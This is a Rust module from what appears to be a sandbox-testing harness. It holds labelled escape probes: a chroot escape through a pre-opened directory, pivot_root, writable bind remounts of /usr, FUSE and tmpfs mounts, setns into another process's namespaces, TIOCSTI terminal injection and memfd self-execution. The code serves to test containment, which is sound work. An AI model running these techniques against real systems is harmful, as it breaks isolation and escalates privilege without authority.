//! Attacks A15, B10, B11, E5 to E7, E10, E14: payloads that change what they see, or who they are.
//!
//! Where one could change the host, it first moves into a mount namespace of its own if it may, so
//! that a bare run as root (the negative control) leaves nothing behind.

use std::ffi::CString;
use std::os::unix::ffi::OsStrExt;

use crate::arguments::PayloadArguments;
use crate::call;
use crate::files::c_path;
use crate::report::Finding;
use crate::system::{ChildEnd, NULL, address, errno, fork_running, reap};

/// Private mounts if they can be had. Otherwise only inside a cage is it safe to go on.
fn contain(arguments: &PayloadArguments) -> Result<(), Finding> {
    let own = call!(libc::SYS_unshare, libc::CLONE_NEWNS).and_then(|_| {
        let flags = libc::MS_REC | libc::MS_PRIVATE;
        call!(libc::SYS_mount, NULL, c"/".as_ptr(), NULL, flags, NULL)
    });
    match own {
        Err(errno) if !arguments.inside_cage() => Err(Finding::Denied(errno)),
        _ => Ok(()),
    }
}

fn contained(arguments: &PayloadArguments, probe: impl FnOnce() -> Result<i64, i32>) -> Finding {
    match contain(arguments) {
        Ok(()) => Finding::of(probe()),
        Err(refused) => refused,
    }
}

/// E6: a new file system over /tmp.
pub(crate) fn mount(arguments: &PayloadArguments) -> Finding {
    contained(arguments, || {
        let kind = c"tmpfs".as_ptr();
        call!(libc::SYS_mount, kind, c"/tmp".as_ptr(), kind, libc::MS_NOSUID, NULL)
    })
}

/// A15: a file system that this process would serve itself, and could keep others waiting in.
pub(crate) fn fuse_mount(arguments: &PayloadArguments) -> Finding {
    contained(arguments, || {
        // Without the device the call itself is still tried: with a descriptor that is none of its.
        let server = call!(libc::SYS_open, c"/dev/fuse".as_ptr(), libc::O_RDWR).unwrap_or(0);
        let options = CString::new(format!("fd={server},rootmode=40000,user_id=0,group_id=0"));
        let (kind, options) = (c"fuse".as_ptr(), options.unwrap_or_default());
        call!(libc::SYS_mount, c"hostile".as_ptr(), c"/tmp".as_ptr(), kind, libc::MS_NOSUID, options.as_ptr())
    })
}

/// E6: the system directory bound over itself, writable.
pub(crate) fn remount(arguments: &PayloadArguments) -> Finding {
    contained(arguments, || {
        let usr = c"/usr".as_ptr();
        if arguments.inside_cage() {
            return call!(libc::SYS_mount, NULL, usr, NULL, libc::MS_REMOUNT | libc::MS_BIND, NULL);
        }
        call!(libc::SYS_mount, usr, usr, NULL, libc::MS_BIND, NULL)
    })
}

/// E6: takes a mount away to see what lies below it: `umount PATH`.
pub(crate) fn unmount(arguments: &PayloadArguments) -> Finding {
    let path = c_path(arguments.text(0, "/proc").as_ref());
    contained(arguments, || call!(libc::SYS_umount2, path.as_ptr(), libc::MNT_DETACH))
}

/// E6: a detached copy of the whole tree.
pub(crate) fn open_tree(_: &PayloadArguments) -> Finding {
    const OPEN_TREE_CLONE: usize = 1;
    Finding::of(call!(libc::SYS_open_tree, libc::AT_FDCWD, c"/".as_ptr(), OPEN_TREE_CLONE))
}

/// E6: a file system context.
pub(crate) fn fsopen(_: &PayloadArguments) -> Finding {
    Finding::of(call!(libc::SYS_fsopen, c"tmpfs".as_ptr(), 0))
}

/// E6: mounts made writable by attribute.
pub(crate) fn mount_setattr(arguments: &PayloadArguments) -> Finding {
    const MOUNT_ATTR_NOATIME: u64 = 0x10;
    const MOUNT_ATTR_ATIME: u64 = 0x70;
    let attributes: [u64; 4] = [MOUNT_ATTR_NOATIME, MOUNT_ATTR_ATIME, 0, 0];
    contained(arguments, || {
        let at = libc::AT_FDCWD;
        call!(libc::SYS_mount_setattr, at, c"/".as_ptr(), 0, address(&attributes), size_of_val(&attributes))
    })
}

/// E5: another root.
pub(crate) fn pivot(arguments: &PayloadArguments) -> Finding {
    contained(arguments, || {
        let (kind, target) = (c"tmpfs".as_ptr(), c"/tmp".as_ptr());
        // The new root must be a mount point; where this is refused, so is what follows.
        let _ = call!(libc::SYS_mount, kind, target, kind, 0, NULL);
        call!(libc::SYS_chdir, target)?;
        call!(libc::SYS_pivot_root, c".".as_ptr(), c".".as_ptr())
    })
}

/// E5: a root inside the root, left again through a directory opened before.
pub(crate) fn chroot_escape(_: &PayloadArguments) -> Finding {
    let escape = || {
        let top = call!(libc::SYS_open, c"/".as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY)?;
        call!(libc::SYS_chroot, c"/tmp".as_ptr())?;
        call!(libc::SYS_fchdir, top)?;
        for _ in 0..64 {
            call!(libc::SYS_chdir, c"..".as_ptr())?;
        }
        call!(libc::SYS_chroot, c".".as_ptr())
    };
    Finding::of(escape())
}

/// E14: joins namespaces by descriptor: another process's, else its own: `setns [PID]`.
pub(crate) fn setns(arguments: &PayloadArguments) -> Finding {
    let victim = match arguments.victim(0) {
        Ok(victim) => victim,
        Err(refused) => return refused,
    };
    let mut last = libc::ENOENT;
    for of in [victim.to_string(), "self".into()] {
        for kind in ["uts", "net", "ipc"] {
            let path = CString::new(format!("/proc/{of}/ns/{kind}")).unwrap_or_default();
            let joined = call!(libc::SYS_open, path.as_ptr(), libc::O_RDONLY)
                .and_then(|namespace| call!(libc::SYS_setns, namespace, 0));
            match joined {
                Ok(_) => return Finding::Succeeded(path.to_string_lossy().into_owned()),
                Err(errno) => last = errno,
            }
        }
    }
    Finding::Denied(last)
}

/// E10: types into a terminal of its own making, as CVE-2017-5226 did into the caller's.
pub(crate) fn tiocsti(_: &PayloadArguments) -> Finding {
    let type_into = |terminal: i64| call!(libc::SYS_ioctl, terminal, libc::TIOCSTI, c"x".as_ptr());
    if type_into(0).is_ok() {
        return Finding::Succeeded("typed into standard input".into());
    }
    let child = fork_running(|| {
        let typed = || {
            let pair = call!(libc::SYS_open, c"/dev/ptmx".as_ptr(), libc::O_RDWR | libc::O_NOCTTY)?;
            let (unlocked, mut number) = (0i32, 0u32);
            call!(libc::SYS_ioctl, pair, libc::TIOCSPTLCK, address(&unlocked))?;
            call!(libc::SYS_ioctl, pair, libc::TIOCGPTN, std::ptr::from_mut(&mut number))?;
            let name = CString::new(format!("/dev/pts/{number}")).unwrap_or_default();
            call!(libc::SYS_setsid)?;
            let terminal = call!(libc::SYS_open, name.as_ptr(), libc::O_RDWR)?;
            call!(libc::SYS_ioctl, terminal, libc::TIOCSCTTY, 0)?;
            type_into(terminal)
        };
        typed().err().unwrap_or(0)
    });
    of_child(child)
}

/// A child's errno as exit code: 0 means that it got through.
pub(crate) fn of_child(child: Result<crate::system::Pid, i32>) -> Finding {
    match child.and_then(reap) {
        Ok(ChildEnd::Exited(0)) => Finding::Succeeded("a child got through".into()),
        Ok(ChildEnd::Exited(errno)) | Err(errno) => Finding::Denied(errno),
        Ok(ChildEnd::Signaled(number)) => Finding::Killed(number),
    }
}

/// B10: runs a set-user-id copy of this program: `setuid-exec PATH`.
pub(crate) fn setuid_exec(arguments: &PayloadArguments) -> Finding {
    let path = match arguments.path(0) {
        Ok(path) => c_path(&path),
        Err(refused) => return refused,
    };
    let child = fork_running(|| {
        let list = [path.as_ptr(), c"am-i-root".as_ptr(), std::ptr::null()];
        let environment = [std::ptr::null::<libc::c_char>()];
        call!(libc::SYS_execve, path.as_ptr(), list.as_ptr(), environment.as_ptr()).err().unwrap_or(0)
    });
    match child.and_then(reap) {
        Ok(ChildEnd::Exited(42)) => Finding::Succeeded("effective user 0".into()),
        Ok(ChildEnd::Exited(0)) => Finding::Denied(libc::EPERM),
        Ok(ChildEnd::Exited(errno)) | Err(errno) => Finding::Denied(errno),
        Ok(ChildEnd::Signaled(number)) => Finding::Killed(number),
    }
}

/// B10: whether this process acts for root.
pub(crate) fn am_i_root(_: &PayloadArguments) -> Finding {
    // SAFETY: neither call has memory effects.
    match unsafe { (libc::geteuid(), libc::getegid()) } {
        (0, group) => Finding::Succeeded(format!("effective user 0, group {group}")),
        _ => Finding::Denied(libc::EPERM),
    }
}

/// B11: runs this program from memory, to probe a wall from there: `memfd-exec NAME ARGUMENTS…`.
pub(crate) fn memfd_exec(arguments: &PayloadArguments) -> Finding {
    let program = match std::fs::read("/proc/self/exe") {
        Ok(program) => program,
        Err(error) => return error.into(),
    };
    let file = match call!(libc::SYS_memfd_create, c"hostile".as_ptr(), libc::MFD_CLOEXEC) {
        Ok(file) => file,
        Err(errno) => return Finding::Denied(errno),
    };
    for chunk in program.chunks(1 << 20) {
        if let Err(errno) = call!(libc::SYS_write, file, chunk.as_ptr(), chunk.len()) {
            return Finding::Denied(errno);
        }
    }
    let texts: Vec<CString> = std::iter::once(c"hostile".to_owned())
        .chain(arguments.from(0).iter().map(|text| CString::new(text.as_bytes()).unwrap_or_default()))
        .collect();
    let list: Vec<_> = texts.iter().map(|text| text.as_ptr()).chain([std::ptr::null()]).collect();
    let environment = [std::ptr::null::<libc::c_char>()];
    let (list, environment) = (list.as_ptr(), environment.as_ptr());
    let _ = call!(libc::SYS_execveat, file, c"".as_ptr(), list, environment, libc::AT_EMPTY_PATH);
    Finding::Denied(errno())
}
